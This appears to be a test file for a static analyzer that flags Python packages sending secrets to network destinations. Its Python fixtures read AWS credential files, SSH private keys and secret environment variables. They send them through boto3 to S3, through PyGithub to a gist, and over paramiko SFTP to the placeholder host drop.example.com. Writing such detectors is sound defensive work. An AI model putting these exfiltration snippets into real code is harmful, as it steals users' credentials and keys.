// API client families (signatures/sinks.yaml `endpoint`/`sends`): a client stays one of its family
// through fields, helpers, factory methods and attribute chains, and the method that finally
// sends carries the client's destination and credential.
import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const SETUP = "from setuptools import setup\nsetup(name='p', packages=['p'])\n";
const flows = async (code: string) => flowsOf(await analyze({ "setup.py": SETUP, "p/__init__.py": code }));

describe("client families", () => {
  it("a client kept in a field and used by another method", async () => {
    expect(
      await flows(`
        import os, boto3
        class Up:
            def __init__(self):
                self.s3 = boto3.client("s3", aws_access_key_id="AKIAX", aws_secret_access_key="x")
            def go(self):
                self.s3.put_object(Bucket="b", Key="k", Body=open(os.path.expanduser("~/.aws/credentials")).read())
        Up().go()
      `),
    ).toEqual(["cloud-credentials@p/__init__.py:6 -> http@p/__init__.py:6 https://s3.amazonaws.com [import]"]);
  });

  it("a client returned by one helper and handed to another", async () => {
    expect(
      await flows(`
        import os, boto3
        def client():
            return boto3.client("s3")
        def send(c, data):
            c.put_object(Bucket="b", Key="k", Body=data)
        send(client(), os.environ["AWS_SECRET_ACCESS_KEY"])
      `),
    ).toEqual(["env-secret@p/__init__.py:6 -> http@p/__init__.py:5 https://s3.amazonaws.com [import]"]);
  });

  it("a gist of a key file (PyGithub), a file written over SFTP (paramiko), a Session's client from an import", async () => {
    expect(
      await flows(`
        import os, github
        g = github.Github("ghp_x")
        g.get_user().create_gist(True, {"a.txt": github.InputFileContent(open(os.path.expanduser("~/.ssh/id_rsa")).read())})
      `),
    ).toEqual(["ssh-key@p/__init__.py:3 -> http@p/__init__.py:3 https://api.github.com [import]"]);
    expect(
      await flows(`
        import os, paramiko
        c = paramiko.SSHClient()
        c.connect("drop.example.com", username="u", password="p")
        f = c.open_sftp().open("/tmp/x", "w")
        f.write(os.environ["AWS_SECRET_ACCESS_KEY"])
      `),
    ).toEqual(["env-secret@p/__init__.py:5 -> ftp@p/__init__.py:5 drop.example.com [import]"]);
    expect(
      await flows(`
        import os
        from boto3.session import Session
        Session().client("s3").upload_file(os.path.expanduser("~/.ssh/id_ed25519"), "b", "k")
      `),
    ).toEqual(["ssh-key@p/__init__.py:3 -> http@p/__init__.py:3 https://s3.amazonaws.com [import]"]);
  });

  it("a token or key that only authenticates the client is a use, never data", async () => {
    const facts = await analyze({ "setup.py": SETUP, "p/__init__.py": `
      import os, github, boto3, paramiko
      github.Github(os.environ["GITHUB_TOKEN"]).get_repo("me/site").create_file("index.html", "publish", "<html></html>")
      boto3.session.Session(aws_secret_access_key=os.environ["AWS_SECRET_ACCESS_KEY"]).client("s3").put_object(Bucket="b", Key="k", Body=b"report")
      c = paramiko.SSHClient()
      c.connect("build.example.com", username="ci", key_filename=os.path.expanduser("~/.ssh/id_rsa"))
      c.open_sftp().put("dist/site.tar.gz", "/srv/site.tar.gz")
    ` });
    // The two tokens authenticate to their issuers' APIs; the SSH key signs the login (no flow).
    expect(facts.flows.map((f) => `${f.source.kind}:${f.source.detail} ${f.sink.destination} ${f.use ?? "data"}`).sort()).toEqual([
      "env-secret:AWS_SECRET_ACCESS_KEY https://s3.amazonaws.com auth",
      "env-secret:GITHUB_TOKEN https://api.github.com auth",
    ]);
  });
});
